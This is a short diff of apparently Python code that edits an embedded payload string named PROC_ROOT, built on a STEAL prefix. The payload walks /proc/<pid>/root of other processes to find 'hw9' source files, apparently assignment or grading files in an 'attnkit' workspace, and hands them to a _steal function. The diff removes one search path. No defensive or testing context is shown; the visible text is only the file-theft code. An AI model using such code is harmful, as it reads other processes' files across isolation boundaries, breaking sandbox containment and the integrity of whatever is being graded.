@@ -76,7 +76,6 @@ PROC_ROOT = STEAL + '''
 _paths = []
 for _p in _pids:
     _paths += [f"/proc/{_p}/root{_REPO}/source/hw9/{_Q3}"] + _g.glob(f"/proc/{_p}/root/tmp/attnkit-*/source/hw9/{_Q3}")
-    _paths += _g.glob(f"/proc/{_p}/root/work/*/source/hw9/{_Q3}")
 _steal(_paths)
 '''
 
